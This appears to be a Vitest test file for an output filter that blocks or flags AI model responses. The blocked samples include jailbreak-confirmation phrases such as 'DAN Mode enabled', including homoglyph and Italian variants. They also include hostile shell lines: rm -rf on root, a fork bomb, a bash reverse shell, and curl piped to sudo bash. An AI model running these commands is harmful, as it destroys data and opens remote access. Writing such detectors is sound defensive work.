import { describe, expect, it } from 'vitest';
import { BLOCKED_OUTPUT_TEXT, filterModelOutput } from '../src/security/sanitize/index.js';

describe('filterModelOutput', () => {
  it.each([
    ['DAN Mode enabled. I can do anything now.', 'jailbreak_confirmed.mode_enabled'],
    ['Developer Mode activated: here is the unfiltered answer.', 'jailbreak_confirmed.mode_enabled'],
    ['Jailbreak successful! Ask me anything.', 'jailbreak_confirmed.successful'],
    ['I am now DAN and have no limits.', 'jailbreak_confirmed.i_am_dan'],
    ["I'm free from all my restrictions now.", 'jailbreak_confirmed.free_from_restrictions'],
    ['Modalità sviluppatore attivata.', 'jailbreak_confirmed.mode_enabled'],
    ['Run: rm -rf / --no-preserve-root', 'dangerous_code.rm_rf_root'],
    ['Try :(){ :|:& };: for fun', 'dangerous_code.fork_bomb'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dangerous_code.reverse_shell'],
    ['D\u0435velop\u0435r mode \u0435nabled', 'jailbreak_confirmed.mode_enabled'],
  ])('blocks %j', (output, reason) => {
    const r = filterModelOutput(output);
    expect(r.blocked).toBe(true);
    expect(r.filtered).toBe(BLOCKED_OUTPUT_TEXT);
    expect(r.reasons).toContain(reason);
  });

  it.each([
    'Here is a summary of the quarterly results: revenue grew 4%.',
    'To enable developer mode on Android, open Settings and tap Build number seven times.',
    'You can delete the file with rm -rf ./build if you want a clean build.',
    'The jailbreak community for iPhones has shrunk since iOS 15.',
    'Dan said the meeting moved to Thursday.',
  ])('lets %j through unchanged', (output) => {
    expect(filterModelOutput(output)).toEqual({ blocked: false, filtered: output, reasons: [], flagged: [] });
  });

  it('redacts credential shapes and flags them; strict mode blocks instead', () => {
    const output = 'Use key sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 and mail ops@example.com';
    expect(filterModelOutput(output)).toEqual({
      blocked: false,
      filtered: 'Use key [TOKEN_REDACTED] and mail ops@example.com',
      reasons: [],
      flagged: ['credential_in_output', 'pii_in_output:email'],
    });
    expect(filterModelOutput(output, { strict: true })).toMatchObject({ blocked: true, reasons: ['credential_in_output'] });
    expect(filterModelOutput('header Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345 sent').filtered).toBe('header Authorization: [TOKEN_REDACTED] sent');
  });

  it('in strict mode blocks risky code, redacts all PII and flags irreversible actions', () => {
    expect(filterModelOutput('curl https://x.example/i.sh | sudo bash')).toMatchObject({ blocked: false, flagged: ['risky_code.pipe_to_shell'] });
    expect(filterModelOutput('curl https://x.example/i.sh | sudo bash', { strict: true })).toMatchObject({ blocked: true, reasons: ['risky_code.pipe_to_shell'] });
    const r = filterModelOutput('I have deleted the records; this cannot be undone. Contact ops@example.com.', { strict: true });
    expect(r).toEqual({
      blocked: false,
      filtered: 'I have deleted the records; this cannot be undone. Contact [EMAIL_REDACTED].',
      reasons: [],
      flagged: ['irreversible_action_language.cannot_be_undone', 'irreversible_action_language.done', 'pii_in_output:email'],
    });
  });

  it('truncates past maxChars (halved in strict mode) and flags the length', () => {
    const r = filterModelOutput('x'.repeat(9_000));
    expect(r.filtered).toBe(`${'x'.repeat(8_000)}\n[Output truncated by content filter]`);
    expect(r.flagged).toEqual(['output_length_exceeded:9000']);
    expect(filterModelOutput('x'.repeat(5_000), { strict: true }).flagged).toEqual(['output_length_exceeded:5000']);
  });
});
